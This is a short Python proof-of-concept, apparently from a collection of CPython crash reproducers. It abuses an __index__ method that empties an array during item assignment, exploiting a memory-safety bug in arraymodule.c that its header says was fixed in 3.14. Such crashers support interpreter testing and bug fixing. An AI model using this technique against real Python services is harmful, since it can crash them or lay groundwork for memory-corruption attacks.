# technique: array[i] = v calls v.__index__, which shrinks the array before the item is stored
# mended: 3.14
# goal: crash
# source: own analysis: the same bug as bytearray's, in arraymodule.c
import array


class Index:
    def __index__(self):
        del a[:]
        return 65


for i in range(1 << 12, 1 << 24, 1 << 16):
    a = array.array('B', bytes(1 << 24))
    a[i] = Index()
